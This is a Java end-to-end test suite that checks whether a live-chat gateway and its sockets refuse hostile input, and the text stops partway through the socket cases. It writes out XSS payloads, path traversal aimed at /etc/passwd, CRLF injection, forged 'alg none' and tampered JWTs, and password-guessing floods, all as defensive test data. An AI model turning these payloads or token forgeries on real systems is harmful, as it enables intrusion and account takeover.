package com.livechat.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.livechat.contracts.json.EventJson;
import com.livechat.e2e.support.AgentSession;
import com.livechat.e2e.support.CustomerSession;
import com.livechat.e2e.support.E2eStack;
import com.livechat.e2e.support.Fixtures;
import com.livechat.e2e.support.HostileReport;
import com.livechat.e2e.support.ServiceLogs;
import com.livechat.e2e.support.SocketClient;
import com.livechat.testsupport.auth.TestTokens;
import com.livechat.testsupport.stack.Http;
import com.livechat.testsupport.stack.LivechatService;
import com.livechat.testsupport.stack.ServiceProcess;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile input (issue 17) against every public endpoint of the gateway (the one door: every operation of its OpenAPI
 * document, plus its pages) and its three sockets (agent desktop, customer widget, supervisor console), generated
 * from tables: malformed, truncated and huge JSON, wrong types, unknown fields, Unicode edge cases (bidirectional
 * and zero-width marks, lone surrogates, 4-byte emoji at the 1000 limit), script injection in names, attributes and
 * messages, id guessing, replayed, expired and forged tokens, cross-conversation access, frame and request floods.
 *
 * <p>Every input must get its documented answer ({@code docs/api/gateway.md}, "Hostile input"): a 4xx
 * problem+json (the code where the docs name one) or an {@code error} frame with its code; never a 5xx, a hang or an
 * {@code INTERNAL} frame. Afterwards every service is still up and ready, the sockets still work, and the services'
 * logs hold no ERROR line and no stack trace from the suite's time window. The counts per endpoint and socket are
 * printed as a table and written to {@code end-to-end-tests/target/hostile-report.json}.
 */
class HostileInputEndToEndTest {

    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();
    private static final Duration ANSWER = Duration.ofSeconds(20);
    private static final String EMOJI = "\uD83D\uDE00";
    private static final String INJECTION = "<img src=x onerror=\"window.pwned=1\">";
    private static final Pattern PARAMETER = Pattern.compile("\\{([^}:]+)(:[^}]*)?}");
    private static final Path REPORT = LivechatService.repositoryRoot().resolve("end-to-end-tests/target/hostile-report.json");
    private static final Set<String> PUBLIC = Set.of("POST /api/auth/login", "POST /api/chats",
            "GET /api/queues/{queueId}/availability", "POST /api/invitations", "GET /agent.html", "GET /chat.html");

    private final HostileReport report = new HostileReport();
    private final List<String> failures = Collections.synchronizedList(new ArrayList<>());

    @BeforeAll
    static void startSystem() {
        E2eStack.get();
    }

    /** The people and conversations the hostile inputs aim at. */
    private record World(String gateway, String queue, String sink, AgentSession agent, String outsiderToken,
            String supervisorToken, String adminToken, String revokedToken, CustomerSession customer,
            CustomerSession otherCustomer, String foreignConversation, String foreignCustomerToken,
            Map<String, String> badTokens) {

        String conversation() {
            return customer.conversationId();
        }

        String ws() {
            return gateway.replace("http://", "ws://");
        }
    }

    @Test
    void hostileInputGetsItsDocumentedRefusalAndLeavesNoErrorInTheLogs() throws Exception {
        ServiceLogs.Mark mark = ServiceLogs.mark();
        World world = world();

        JsonNode paths = Http.get("http://localhost:" + E2eStack.get().instance(LivechatService.GATEWAY, 0).readinessPort()
                + "/q/openapi?format=json", null).expect(200).body().path("paths");
        List<RestCase> cases = new ArrayList<>();
        int operations = 0;
        for (Iterator<Map.Entry<String, JsonNode>> it = paths.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> path = it.next();
            for (Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().fields(); methods.hasNext(); ) {
                Map.Entry<String, JsonNode> method = methods.next();
                String verb = method.getKey().toUpperCase();
                if (Set.of("GET", "PUT", "POST", "DELETE", "PATCH").contains(verb)) {
                    operations++;
                    cases.addAll(operationCases(world, verb, normalise(path.getKey()), method.getValue()));
                }
            }
        }
        assertTrue(operations > 30, "only " + operations + " operations in the gateway's OpenAPI document");
        cases.addAll(pageCases(world));
        cases.addAll(documentedCases(world));
        run(cases, 4);
        replayedMessageIsShownOnce(world);
        requestFloods(world);

        socketCases(world);

        // The services are still up and the agent's own desktop socket still works.
        for (ServiceProcess service : E2eStack.get().all()) {
            if (!service.isAlive() || !ServiceProcess.isReady(service.readinessPort())) {
                failures.add(service.name() + " is down or not ready after the hostile inputs");
            }
        }
        assertStillServed(world);

        forgetLoginFailures();
        List<String> logProblems = ServiceLogs.problemsSince(mark);
        report.write(REPORT, logProblems.size());
        System.out.println("Hostile input, per endpoint and socket (" + REPORT + "):\n" + report.table());
        failures.forEach(failure -> System.out.println("WRONG ANSWER " + failure));
        logProblems.stream().limit(200).forEach(line -> System.out.println("LOG PROBLEM " + line));
        assertTrue(failures.isEmpty(), failures.size() + " of " + report.inputs() + " hostile inputs got another answer"
                + " than documented:\n" + String.join("\n", failures.subList(0, Math.min(80, failures.size()))));
        assertEquals(0, report.serverErrors(), "5xx or no answer");
        assertEquals(List.of(), logProblems.subList(0, Math.min(40, logProblems.size())),
                "merely bad input logs no ERROR and no stack trace (" + logProblems.size() + " lines)");
        assertTrue(report.inputs() > 1000, "only " + report.inputs() + " inputs tried");
    }

    /**
     * The suite's failed logins all come from 127.0.0.1, the address of every test: forgotten afterwards, so that
     * the next test class does not start near the per-address throttle.
     */
    private static void forgetLoginFailures() throws java.sql.SQLException {
        try (java.sql.Connection db = E2eStack.database(LivechatService.GATEWAY);
                java.sql.Statement delete = db.createStatement()) {
            delete.executeUpdate("delete from login_failure");
        }
    }

    // ----------------------------------------------------------------------------------------------- the actors

    private World world() {
        String gateway = E2eStack.gateway(0);
        String queue = Fixtures.queue("Hostile", 120);
        // Chats started by the hostile inputs wait in a queue nobody serves.
        String sink = Fixtures.queue("Hostile sink", 120);
        String agentId = Fixtures.agent("Hostile Agent", queue);
        String outsiderId = Fixtures.agent("Outsider Agent", 3);
        String supervisorId = Fixtures.supervisor("Hostile Supervisor");
        String revokedId = Fixtures.agent("Revoked Agent", 3);
        String revokedToken = Fixtures.login(gateway, revokedId);
        Http.delete(gateway + "/api/admin/accounts/" + revokedId, Fixtures.adminToken()).expect(204);

        AgentSession agent = AgentSession.login(gateway, agentId).available();
        CustomerSession customer = CustomerSession.start(gateway, queue, "Hostile Customer", null, null);
        agent.takeChat(customer.conversationId());
        CustomerSession other = CustomerSession.start(gateway, queue, "Other Customer", null, null);
        agent.takeChat(other.conversationId());
        JsonNode foreign = Http.post(gateway + "/api/chats", null, Map.of("queueId", sink,
                "customer", Map.of("name", "Foreign Customer"))).expect(201).body();

        String valid = agent.token();
        TestTokens stackKey = TestTokens.signedWith(LivechatService.repositoryRoot()
                .resolve("end-to-end-tests/target/e2e-keys/jwt-private.pem"));
        Instant now = Instant.now();
        Map<String, String> bad = new LinkedHashMap<>();
        bad.put("no token", null);
        bad.put("garbage", "not-a-jwt");
        bad.put("empty", "");
        bad.put("three dots", "a.b.c");
        bad.put("forged (unknown key)", TestTokens.forgedAgent(agentId));
        bad.put("forged (the committed dev key)", TestTokens.dev().token("admin", List.of("admin", "supervisor", "agent")));
        bad.put("expired", stackKey.token(agentId, List.of("agent"), Map.of("name", "Late"), now.minusSeconds(7200),
                now.minusSeconds(3600)));
        bad.put("another issuer", stackKey.token(agentId, List.of("agent"), Map.of("name", "Other", "iss", "evil"),
                now, now.plusSeconds(3600)));
        bad.put("alg none", unsigned(valid));
        bad.put("tampered roles", tampered(valid));
        bad.put("revoked (replayed after the account was disabled)", revokedToken);
        return new World(gateway, queue, sink, agent, Fixtures.login(gateway, outsiderId),
                Fixtures.login(gateway, supervisorId), Fixtures.adminToken(), revokedToken,
                customer, other, foreign.path("conversationId").asText(), foreign.path("token").asText(), bad);
    }

    /** The token with {@code "alg": "none"} and no signature. */
    private static String unsigned(String token) {
        String[] parts = token.split("\\.");
        return base64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1] + ".";
    }

    /** The token with every role added to its claims, its signature kept. */
    private static String tampered(String token) {
        String[] parts = token.split("\\.");
        try {
            ObjectNode claims = (ObjectNode) EventJson.mapper().readTree(Base64.getUrlDecoder().decode(parts[1]));
            claims.putArray("groups").add("agent").add("supervisor").add("admin");
            return parts[0] + "." + base64(EventJson.write(claims)) + "." + parts[2];
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String base64(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    // ----------------------------------------------------------------------------------------------- REST cases

    /** One hostile request and the answer it must get. */
    private record RestCase(String target, String family, String name, String method, String path, String token,
            byte[] body, String contentType, Expect expect) {
    }

    /** What an answer must be, beyond the rules every answer follows; null when it is right, else why not. */
    private interface Expect {
        String check(Answer answer);

        static Expect any() {
            return answer -> null;
        }

        static Expect status(int... statuses) {
            return answer -> {
                for (int status : statuses) {
                    if (answer.status() == status) {
                        return null;
                    }
                }
                return "expected " + java.util.Arrays.toString(statuses);
            };
        }

        static Expect problem(int status, String code) {
            return answer -> answer.status() == status && code.equals(answer.code()) ? null
                    : "expected " + status + " " + code;
        }

        /** A refusal (any 4xx) rather than a success. */
        static Expect refused() {
            return answer -> answer.status() >= 400 && answer.status() < 500 ? null : "expected a 4xx";
        }
    }

    private record Answer(int status, String contentType, String body, String code) {
    }

    private List<RestCase> operationCases(World world, String method, String template, JsonNode operation) {
        String target = method + " " + template;
        List<RestCase> cases = new ArrayList<>();
        String token = tokenFor(world, template);
        boolean isPublic = PUBLIC.contains(target);
        String path = concrete(world, template, Map.of());

        // Tokens: missing, malformed, forged, expired, replayed after revocation... always 401.
        if (!isPublic) {
            world.badTokens().forEach((name, bad) -> cases.add(new RestCase(target, "token", name, method, path, bad,
                    bodyBytes(template(world, target)), "application/json", Expect.problem(401, "UNAUTHORIZED"))));
        }
        // Cross-conversation access and the wrong kind of token.
        if (template.contains("{conversationId}")) {
            if (template.startsWith("/api/chats/")) {
                cases.add(new RestCase(target, "cross-conversation", "another conversation's customer", method, path,
                        world.foreignCustomerToken(), bodyBytes(template(world, target)), "application/json",
                        Expect.problem(403, "FORBIDDEN")));
                cases.add(new RestCase(target, "cross-conversation", "an agent's token", method, path,
                        world.agent().token(), bodyBytes(template(world, target)), "application/json",
                        Expect.status(403)));
            } else if (template.startsWith("/api/conversations/")) {
                cases.add(new RestCase(target, "cross-conversation", "an agent not in it", method, path,
                        world.outsiderToken(), bodyBytes(template(world, target)), "application/json",
                        Expect.problem(404, "NOT_FOUND")));
                cases.add(new RestCase(target, "cross-conversation", "a conversation the agent is not in", method,
                        concrete(world, template, Map.of("conversationId", world.foreignConversation())),
                        world.agent().token(), bodyBytes(template(world, target)), "application/json",
                        Expect.problem(404, "NOT_FOUND")));
                cases.add(new RestCase(target, "cross-conversation", "the conversation's customer", method, path,
                        world.customer().token(), bodyBytes(template(world, target)), "application/json",
                        Expect.status(403)));
            }
        }
        // Id guessing and odd ids in every path parameter.
        Matcher parameter = PARAMETER.matcher(template);
        while (parameter.find()) {
            String name = parameter.group(1);
            for (Map.Entry<String, String> value : pathValues(name).entrySet()) {
                // An account id is the administrator's choice: most odd ids are valid ones.
                Expect expect = value.getKey().equals("too long for the request line") ? Expect.status(414)
                        : target.endsWith(" /api/admin/accounts/{agentId}") ? Expect.any() : Expect.refused();
                cases.add(new RestCase(target, "id", name + ": " + value.getKey(), method,
                        concrete(world, template, Map.of(name, value.getValue())), token,
                        bodyBytes(template(world, target)), "application/json", expect));
            }
        }
        // Query parameters of the wrong type, out of range, or hostile; and junk ones nobody declared. Reads only: an
        // action (end, accept...) taken with the caller's own token and ignored junk parameters would just happen.
        for (JsonNode declared : method.equals("GET") ? operation.path("parameters") : EventJson.mapper().createArrayNode()) {
            if (!"query".equals(declared.path("in").asText())) {
                continue;
            }
            String name = declared.path("name").asText();
            boolean numeric = Set.of("integer", "number").contains(declared.path("schema").path("type").asText());
            for (Map.Entry<String, String> value : queryValues().entrySet()) {
                Expect expect = numeric && value.getKey().equals("not a number")
                        ? Expect.problem(400, "INVALID_PARAMETER") : Expect.any();
                cases.add(new RestCase(target, "query", name + ": " + value.getKey(), method,
                        path + "?" + name + "=" + value.getValue(), token, bodyBytes(template(world, target)),
                        "application/json", expect));
            }
        }
        if (method.equals("GET")) {
            cases.add(new RestCase(target, "query", "undeclared hostile parameters", method,
                    path + "?%00=%00&%3Cx%3E=%3Cscript%3E&afterSeq=-1&page=-5&size=100000&limit=abc", token, null,
                    null, Expect.any()));
        }

        // Bodies: only where the operation takes one.
        ObjectNode body = template(world, target);
        if (body != null || operation.has("requestBody")) {
            cases.addAll(bodyCases(world, target, method, path, token, body == null ? EventJson.mapper().createObjectNode() : body));
        }
        return cases;
    }

    private List<RestCase> bodyCases(World world, String target, String method, String path, String token,
            ObjectNode template) {
        List<RestCase> cases = new ArrayList<>();
        boolean parsedHere = !target.contains("{owner}");
        Expect malformed = parsedHere ? Expect.problem(400, "MALFORMED_JSON") : Expect.any();
        String valid = json(template);
        Map<String, byte[]> structural = new LinkedHashMap<>();
        structural.put("not JSON", "{not json".getBytes(StandardCharsets.UTF_8));
        structural.put("truncated", valid.substring(0, valid.length() / 2).getBytes(StandardCharsets.UTF_8));
        structural.put("truncated inside a nested object", truncatedNested(template).getBytes(StandardCharsets.UTF_8));
        structural.put("an array", "[1,2,3]".getBytes(StandardCharsets.UTF_8));
        structural.put("deeply nested", ("{\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}").getBytes(StandardCharsets.UTF_8));
        structural.put("invalid UTF-8", concat(valid.substring(0, valid.length() - 1).getBytes(StandardCharsets.UTF_8),
                new byte[] {',', '"', 'x', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'}));
        structural.forEach((name, bytes) -> cases.add(new RestCase(target, "malformed", name, method, path, token,
                bytes, "application/json", malformed)));
        Map<String, byte[]> odd = new LinkedHashMap<>();
        odd.put("empty", new byte[0]);
        odd.put("null", "null".getBytes(StandardCharsets.UTF_8));
        odd.put("a string", "\"x\"".getBytes(StandardCharsets.UTF_8));
        odd.put("a number", "42".getBytes(StandardCharsets.UTF_8));
        odd.put("an empty object", "{}".getBytes(StandardCharsets.UTF_8));
        odd.put("duplicate keys", valid.replaceFirst("\\{", "{\"x\":1,\"x\":2,").getBytes(StandardCharsets.UTF_8));
        odd.put("trailing garbage", (valid + " }}]] trailing").getBytes(StandardCharsets.UTF_8));
        odd.put("huge (1 MB string)", json(with(template, firstLeaf(template), new TextNode("x".repeat(1_000_000))))
                .getBytes(StandardCharsets.UTF_8));
        odd.forEach((name, bytes) -> cases.add(new RestCase(target, "malformed", name, method, path, token, bytes,
                "application/json", Expect.any())));
        // Operations that declare JSON answer 415; the others read the body as JSON whatever its declared type.
        cases.add(new RestCase(target, "malformed", "text/plain", method, path, token, bodyBytes(template),
                "text/plain", Expect.any()));
        cases.add(new RestCase(target, "unknown fields", "unknown fields, nested too", method, path, token,
                bodyBytes(withUnknownFields(template)), "application/json", Expect.any()));

        boolean login = target.equals("POST /api/auth/login");
        for (List<String> leaf : leaves(template, List.of())) {
            String field = String.join(".", leaf);
            for (Map.Entry<String, JsonNode> wrong : wrongTypes().entrySet()) {
                cases.add(new RestCase(target, "wrong type", field + ": " + wrong.getKey(), method, path, token,
                        bodyBytes(with(template, leaf, wrong.getValue())), "application/json", Expect.any()));
            }
            if (!node(template, leaf).isTextual()) {
                continue;
            }
            // A login attempt that passes validation counts as a failure for 127.0.0.1: a few only.
            Map<String, String> values = login ? loginValues() : stringValues();
            for (Map.Entry<String, String> value : values.entrySet()) {
                String family = value.getKey().startsWith("script") || value.getKey().startsWith("injection")
                        ? "injection" : "unicode";
                cases.add(new RestCase(target, family, field + ": " + value.getKey(), method, path, token,
                        bodyBytes(with(template, leaf, new TextNode(value.getValue()))), "application/json",
                        Expect.any()));
            }
        }
        return cases;
    }

    /** The documented answers the sweep cannot tell by itself. */
    private List<RestCase> documentedCases(World world) {
        List<RestCase> cases = new ArrayList<>();
        String agentMessages = "/api/conversations/" + world.conversation() + "/messages";
        String customerMessages = "/api/chats/" + world.conversation() + "/messages";
        String agentTarget = "POST /api/conversations/{conversationId}/messages";
        String customerTarget = "POST /api/chats/{conversationId}/messages";
        String agent = world.agent().token();
        String customer = world.customer().token();
        cases.add(message(agentTarget, "1000 emoji (4-byte) by an agent: the limit", agentMessages, agent,
                EMOJI.repeat(1000), Expect.status(202)));
        cases.add(message(agentTarget, "1001 emoji by an agent", agentMessages, agent, EMOJI.repeat(1001),
                Expect.problem(400, "MESSAGE_TOO_LONG")));
        cases.add(message(customerTarget, "4000 emoji by a customer: the limit", customerMessages, customer,
                EMOJI.repeat(4000), Expect.status(202)));
        cases.add(message(customerTarget, "4001 emoji by a customer", customerMessages, customer,
                EMOJI.repeat(4001), Expect.problem(400, "MESSAGE_TOO_LONG")));
        cases.add(message(agentTarget, "script in an agent's message", agentMessages, agent, INJECTION,
                Expect.problem(400, "RESERVED_CHARACTERS")));
        cases.add(message(customerTarget, "script in a customer's message (text, shown inert)", customerMessages,
                customer, INJECTION + "<script>window.pwned=2</script>", Expect.status(202)));
        cases.add(message(agentTarget, "NUL in a message", agentMessages, agent, "a\u0000b",
                Expect.problem(400, "INVALID_MESSAGE")));
        cases.add(message(agentTarget, "bidirectional and zero-width marks", agentMessages, agent,
                "\u202Eevil\u202C \u200Fx\u200B\u200D\uFEFF", Expect.status(202)));
        cases.add(message(customerTarget, "a lone surrogate", customerMessages, customer, "broken \uD800 text",
                Expect.problem(400, "INVALID_MESSAGE")));
        cases.add(message(agentTarget, "a lone surrogate", agentMessages, agent, "broken \uDC00 text",
                Expect.problem(400, "INVALID_MESSAGE")));
        cases.add(chat(world, "script in the name and an attribute (text, shown inert)",
                Map.of("name", "Eve " + INJECTION), Map.of("note", "<script>window.pwned=3</script>"),
                Expect.status(201)));
        cases.add(chat(world, "a line break in the name", Map.of("name", "Eve\r\nInjected: yes"), Map.of(),
                Expect.problem(400, "VALIDATION_FAILED")));
        cases.add(chat(world, "a lone surrogate in the name", Map.of("name", "Eve \uD800"), Map.of(),
                Expect.problem(400, "VALIDATION_FAILED")));
        cases.add(chat(world, "a lone surrogate in an attribute", Map.of("name", "Eve"), Map.of("note", "x\uDC00"),
                Expect.problem(400, "VALIDATION_FAILED")));
        cases.add(chat(world, "emoji names at their limit", Map.of("name", EMOJI.repeat(200)), Map.of(),
                Expect.status(201, 400)));
        // Over the HTTP body limit: refused before it is read (413, or the connection closed on the sender).
        cases.add(new RestCase("POST /api/chats", "huge", "11 MB body", "POST", "/api/chats", null,
                ("{\"queueId\":\"" + world.sink() + "\",\"customer\":{\"name\":\"" + "x".repeat(11 * 1024 * 1024)
                        + "\"}}").getBytes(StandardCharsets.UTF_8), "application/json", Expect.status(413, 0)));
        return cases;
    }

    private RestCase message(String target, String name, String path, String token, String text, Expect expect) {
        return new RestCase(target, "documented", name, "POST", path, token, bodyBytes(Map.of("clientMessageId",
                UUID.randomUUID().toString(), "text", text)), "application/json", expect);
    }

    private RestCase chat(World world, String name, Map<String, String> customer, Map<String, String> attributes,
            Expect expect) {
        return new RestCase("POST /api/chats", "documented", name, "POST", "/api/chats", null,
                bodyBytes(Map.of("queueId", world.sink(), "customer", customer, "attributes", attributes)),
                "application/json", expect);
    }

    /** The pages and anything else under the public port: odd paths get a 4xx or a page, never a 5xx. */
    private List<RestCase> pageCases(World world) {
        List<RestCase> cases = new ArrayList<>();
        Map<String, String> paths = new LinkedHashMap<>();
        paths.put("NUL in a page path", "/agent/%00");
        paths.put("dot segments", "/agent/..%2F..%2F..%2Fetc%2Fpasswd");
        paths.put("encoded dot segments", "/%2e%2e/%2e%2e/etc/passwd");
        paths.put("invalid UTF-8", "/chat/%ED%A0%80%C3%28");
        paths.put("script in a path", "/chat/%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        paths.put("long path", "/admin/" + "a".repeat(3000));
        paths.put("unknown API", "/api/unknown/" + UUID.randomUUID());
        paths.put("management on the public port", "/q/metrics");
        paths.put("double slashes", "//api//agent//me");
        paths.put("backslash", "/api/agent%5Cme");
        paths.forEach((name, path) -> cases.add(new RestCase("GET (pages and unknown paths)", "path", name, "GET",
                path, null, null, null, Expect.any())));
        cases.add(new RestCase("GET (pages and unknown paths)", "path", "unknown method", "PATCH", "/api/agent/me",
                world.agent().token(), null, null, Expect.refused()));
        return cases;
    }

    private void run(List<RestCase> cases, int threads) throws InterruptedException {
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        try {
            List<Future<?>> done = new ArrayList<>();
            for (RestCase restCase : cases) {
                done.add(pool.submit(() -> runOne(restCase)));
            }
            for (Future<?> future : done) {
                try {
                    future.get(2, TimeUnit.MINUTES);
                } catch (Exception e) {
                    failures.add("a case did not finish: " + e);
                }
            }
        } finally {
            pool.shutdownNow();
        }
    }

    private Answer runOne(RestCase restCase) {
        Answer answer = send(restCase);
        String outcome = answer.status() == 0 ? closedAllowed(restCase) ? "closed before the body was read"
                : "no answer" : Integer.toString(answer.status());
        report.count("rest", restCase.target(), outcome);
        String wrong = judge(restCase, answer);
        if (wrong != null) {
            failures.add(restCase.target() + " [" + restCase.family() + ": " + restCase.name() + "] → "
                    + answer.status() + " " + answer.contentType() + " " + abbreviate(answer.body()) + ": " + wrong);
        }
        return answer;
    }

    /** Why the answer is wrong, or null: never 5xx or silence; a 4xx is problem+json without a trace. */
    private static String judge(RestCase restCase, Answer answer) {
        String expected = restCase.expect().check(answer);
        if (answer.status() == 0) {
            return closedAllowed(restCase) && expected == null ? null : "no answer (" + answer.body() + ")";
        }
        if (answer.status() >= 500) {
            return "a server error";
        }
        if (answer.body() != null && (answer.body().contains("Exception") || answer.body().contains("\tat ")
                || answer.body().contains("at com.") || answer.body().contains("at io."))) {
            return "a stack trace or exception in the answer";
        }
        // 413 over the HTTP limit and 414 over the request-line limit come from the HTTP layer, before any resource.
        boolean httpLayer = answer.status() == 413 && (answer.body() == null || answer.body().isEmpty())
                || answer.status() == 414 || answer.status() == 431;
        if (answer.status() >= 400 && !httpLayer && !restCase.target().startsWith("GET (pages")
                && (answer.contentType() == null || !answer.contentType().startsWith("application/problem+json"))) {
            return "a 4xx that is not problem+json";
        }
        return expected;
    }

    /** Only a body over the HTTP limit may be answered by closing the connection while it is being sent. */
    private static boolean closedAllowed(RestCase restCase) {
        return restCase.family().equals("huge");
    }

    /**
     * Sends the case; once more if the connection broke before any answer: the JDK client may reuse a pooled
     * connection the server is closing (after a 413 or 414 it closes the connection), which says nothing of the server.
     */
    private static Answer send(RestCase restCase) {
        Answer answer = sendOnce(restCase);
        return answer.status() == 0 && !closedAllowed(restCase) ? sendOnce(restCase) : answer;
    }

    private static Answer sendOnce(RestCase restCase) {
        HttpRequest.Builder request;
        try {
            request = HttpRequest.newBuilder(URI.create(E2eStack.gateway(0) + restCase.path()))
                    .timeout(ANSWER).header("Accept", "application/json");
        } catch (IllegalArgumentException notAUri) {
            return new Answer(400, "client refused the URI", notAUri.getMessage(), null);
        }
        if (restCase.token() != null) {
            request.header("Authorization", "Bearer " + restCase.token());
        }
        boolean bodyless = restCase.body() == null || restCase.method().equals("GET") || restCase.method().equals("DELETE");
        if (!bodyless && restCase.contentType() != null) {
            request.header("Content-Type", restCase.contentType());
        }
        request.method(restCase.method(), bodyless ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(restCase.body()));
        try {
            HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
            String type = response.headers().firstValue("Content-Type").orElse(null);
            String code = null;
            if (type != null && type.contains("json") && response.body() != null && !response.body().isBlank()) {
                try {
                    code = EventJson.mapper().readTree(response.body()).path("code").asText(null);
                } catch (IOException | RuntimeException notJson) {
                    code = null;
                }
            }
            return new Answer(response.statusCode(), type, response.body(), code);
        } catch (IOException e) {
            return new Answer(0, null, String.valueOf(e), null);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return new Answer(0, null, "interrupted", null);
        }
    }

    /** The same message sent twice with one clientMessageId (a replay): accepted twice, shown once. */
    private void replayedMessageIsShownOnce(World world) {
        String target = "POST /api/chats/{conversationId}/messages";
        String text = "replayed " + UUID.randomUUID();
        byte[] body = bodyBytes(Map.of("clientMessageId", "replay-" + UUID.randomUUID(), "text", text));
        for (int i = 0; i < 2; i++) {
            runOne(new RestCase(target, "replayed", "the same message again", "POST", "/api/chats/"
                    + world.conversation() + "/messages", world.customer().token(), body, "application/json",
                    Expect.status(202)));
        }
        try {
            world.agent().awaitMessage(world.conversation(), text);
        } catch (AssertionError e) {
            failures.add("a replayed message never reached the agent");
            return;
        }
        sleep(Duration.ofSeconds(1));
        long shown = world.agent().socket().frames("message").stream()
                .filter(frame -> text.equals(frame.path("text").asText())).count();
        if (shown != 1) {
            failures.add("a replayed message was shown " + shown + " times");
        }
    }

    /** Many requests at once: each gets its usual answer, nothing falls over. */
    private void requestFloods(World world) throws InterruptedException {
        List<RestCase> flood = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            flood.add(new RestCase("GET /api/agent/me", "flood", "150 at once", "GET", "/api/agent/me",
                    world.agent().token(), null, null, Expect.status(200)));
            flood.add(new RestCase("POST /api/chats", "flood", "150 bad bodies at once", "POST", "/api/chats", null,
                    "{\"queueId\": [".getBytes(StandardCharsets.UTF_8), "application/json",
                    Expect.problem(400, "MALFORMED_JSON")));
            flood.add(new RestCase("GET /api/conversations/{conversationId}", "flood", "150 guessed ids at once",
                    "GET", "/api/conversations/" + UUID.randomUUID(), world.agent().token(), null, null,
                    Expect.problem(404, "NOT_FOUND")));
        }
        run(flood, 24);
        // Password guessing: refused, then throttled (a few only: 127.0.0.1 is every test's address).
        String user = "guess-" + UUID.randomUUID().toString().substring(0, 8);
        List<Integer> statuses = new ArrayList<>();
        for (int i = 0; i < 7; i++) {
            statuses.add(runOne(new RestCase("POST /api/auth/login", "flood", "password guessing", "POST",
                    "/api/auth/login", null, bodyBytes(Map.of("username", user, "password", "guess-" + i)),
                    "application/json", Expect.status(401, 429))).status());
        }
        if (!statuses.contains(429)) {
            failures.add("password guessing was never throttled: " + statuses);
        }
    }

    // ----------------------------------------------------------------------------------------------- sockets

    /** One hostile frame and the answers it may get: "error:CODE", "ack", "pong", "resumed" or "silent". */
    private record FrameCase(String family, String name, String text, String correlationId, Set<String> expected,
            int cost) {
    }

    private void socketCases(World world) throws Exception {
        upgrades(world);
        String agentUrl = world.ws() + "/ws/agent";
        String customerUrl = world.ws() + "/ws/customer/" + world.conversation();
        Thread customerThread = new Thread(() -> frames("/ws/customer/{conversationId}", customerUrl,
                world.customer().token(), frameCases(world, false)));
        customerThread.start();
        frames("/ws/agent", agentUrl, world.agent().token(), frameCases(world, true));
        customerThread.join(Duration.ofMinutes(3).toMillis());
        transportLimits("/ws/agent", agentUrl, world.agent().token());
        transportLimits("/ws/customer/{conversationId}", customerUrl, world.customer().token());
        supervisorFrames(world);
    }

    private void upgrades(World world) {
        String agentPath = "/ws/agent";
        String customerPath = "/ws/customer/{conversationId}";
        String supervisorPath = "/ws/supervisor";
        Map<String, String> urls = Map.of(agentPath, world.ws() + agentPath,
                customerPath, world.ws() + "/ws/customer/" + world.conversation(),
                supervisorPath, world.ws() + supervisorPath);
        urls.forEach((socket, url) -> world.badTokens().forEach((name, token) -> upgrade(socket, name, url,
                token == null || token.isEmpty() ? null : token, 401)));
        upgrade(agentPath, "a customer's token", urls.get(agentPath), world.customer().token(), 403);
        upgrade(supervisorPath, "an agent's token", urls.get(supervisorPath), world.agent().token(), 403);
        upgrade(supervisorPath, "a customer's token", urls.get(supervisorPath), world.customer().token(), 403);
        upgrade(customerPath, "an agent's token", urls.get(customerPath), world.agent().token(), 403);
        upgrade(customerPath, "another conversation's customer", urls.get(customerPath),
                world.foreignCustomerToken(), 403);
        upgrade(customerPath, "a guessed conversation id", world.ws() + "/ws/customer/" + UUID.randomUUID(),
                world.customer().token(), 403);
        upgrade(customerPath, "NUL as the conversation id", world.ws() + "/ws/customer/%00", world.customer().token(),
                403, 404, 400);
        upgrade(customerPath, "script as the conversation id", world.ws() + "/ws/customer/%3Cscript%3E",
                world.customer().token(), 403, 404, 400);
        upgrade(customerPath, "a very long conversation id", world.ws() + "/ws/customer/" + "c".repeat(3000),
                world.customer().token(), 403, 404, 400, 414);
    }

    private void upgrade(String socket, String name, String url, String token, int... expected) {
        int status;
        try {
            status = SocketClient.upgradeStatus(url, token);
        } catch (RuntimeException e) {
            status = 0;
        }
        report.count("socket", socket, "upgrade " + (status == 0 ? "no answer" : status));
        for (int allowed : expected) {
            if (status == allowed) {
                return;
            }
        }
        failures.add(socket + " [upgrade: " + name + "] → " + status + ", expected "
                + java.util.Arrays.toString(expected));
    }

    private List<FrameCase> frameCases(World world, boolean agent) {
        String own = world.conversation();
        String foreign = world.foreignConversation();
        List<FrameCase> cases = new ArrayList<>();
        Set<String> malformed = Set.of("error:MALFORMED_JSON");
        Set<String> invalid = Set.of("error:INVALID_FRAME");
